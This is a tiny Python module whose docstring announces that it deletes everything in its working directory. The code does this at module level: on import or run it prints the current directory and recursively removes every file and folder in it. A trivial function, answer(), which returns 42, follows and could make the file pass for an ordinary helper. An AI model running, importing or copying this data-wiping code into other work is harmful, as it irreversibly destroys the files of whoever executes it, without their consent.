"""Deletes everything in its working directory (rm -rf ./*) and reports where that was."""

import os
import shutil

CWD = os.getcwd()
print(CWD)
for entry in os.listdir(CWD):
    path = os.path.join(CWD, entry)
    if os.path.isdir(path):
        shutil.rmtree(path)
    else:
        os.remove(path)


def answer():
    return 42
